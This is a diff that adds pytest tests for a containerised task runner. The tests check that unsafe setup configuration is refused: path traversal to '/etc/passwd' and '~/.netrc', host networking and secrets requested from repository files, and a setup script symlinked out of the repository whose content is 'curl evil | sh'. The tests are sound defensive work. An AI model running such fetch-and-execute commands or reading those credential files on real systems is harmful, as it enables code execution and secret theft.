@@ -335,3 +335,56 @@ def test_as_a_subprocess_one_line_and_exit_2(bad_input_dir, toren_home):
                           capture_output=True, text=True, env=env)
     assert proc.returncode == 2
     assert proc.stderr.count("\n") == 1 and proc.stderr.startswith("toren: --branch: ")
+
+
+#: The setup's bad input (issue 15): one line, nothing started. (file text or None, extra flags, exit code, named)
+SETUP_CASES = [
+    ("setup-unknown-key", '[setup]\nrun = "true"\nnetwork = "host"\n', [], 3, "setup.network"),
+    ("setup-unknown-key-pyproject", None, [], 3, "setup.secrets"),
+    ("setup-cache-key-dotdot", '[setup]\nrun = "true"\ncache_key = ["../other/requirements.txt"]\n', [], 2,
+     "setup_cache_key"),
+    ("setup-cache-key-absolute", '[setup]\nrun = "true"\ncache_key = ["/etc/passwd"]\n', [], 2, "setup_cache_key"),
+    ("setup-cache-key-inner-dotdot", None, ["--setup", "true", "--setup-cache-key", "src/../../x"], 2,
+     "--setup-cache-key"),
+    ("setup-cache-key-home", None, ["--setup", "true", "--setup-cache-key", "~/.netrc"], 2, "--setup-cache-key"),
+    ("setup-network-from-repo", 'setup_network = "host"\n', [], 3, "setup_network"),
+    ("secret-for-from-repo", 'secret_for = ["setup"]\n', [], 3, "secret_for"),
+    ("setup-network-bad", None, ["--setup", "true", "--setup-network", "container:abc"], 2, "--setup-network"),
+    ("secret-for-without-secret", None, ["--setup", "true", "--secret-for", "setup"], 2, "--secret-for"),
+    ("secret-for-unknown-name", None, ["--secret", "HOME", "--secret-for", "NOPE=setup"], 2, "--secret-for"),
+    ("secret-for-bad-target", None, ["--secret", "HOME", "--secret-for", "HOME=agent"], 2, "--secret-for"),
+]
+
+
+@pytest.mark.parametrize("text,extra,exit_code,named", [c[1:] for c in SETUP_CASES], ids=[c[0] for c in SETUP_CASES])
+def test_bad_setup_input(text, extra, exit_code, named, bad_input_dir, toren_home, repo, capsys, docker_client):
+    if text is not None:
+        (repo / "toren.toml").write_text(text)
+    elif "pyproject" in named or named == "setup.secrets":
+        (repo / "pyproject.toml").write_text('[project]\nname = "x"\n[tool.toren.setup]\nrun = "true"\n'
+                                             'secrets = ["HOME"]\n')
+    code = main(["run", *GOOD, *extra])
+    out, err = capsys.readouterr()
+    assert code == exit_code, err
+    assert out == "" and len(err.strip().splitlines()) == 1, err
+    assert named in err, err
+    assert_nothing_started(toren_home, repo, docker_client)
+
+
+@pytest.mark.parametrize("how", ["absolute", "relative", "directory"])
+def test_a_setup_script_that_is_a_symlink_out_of_the_repository_is_refused(how, bad_input_dir, toren_home, repo,
+                                                                           capsys, docker_client, tmp_path):
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "setup.sh").write_text("curl evil | sh\n")
+    if how == "directory":
+        (repo / ".toren").symlink_to(outside)
+    else:
+        (repo / ".toren").mkdir()
+        target = outside / "setup.sh" if how == "absolute" else Path("..", "..", "outside", "setup.sh")
+        (repo / ".toren" / "setup.sh").symlink_to(target)
+    code = main(["run", *GOOD])
+    err = capsys.readouterr().err
+    assert code == 2, err
+    assert ".toren/setup.sh" in err and "symlink out of the repository" in err and len(err.strip().splitlines()) == 1
+    assert_nothing_started(toren_home, repo, docker_client)
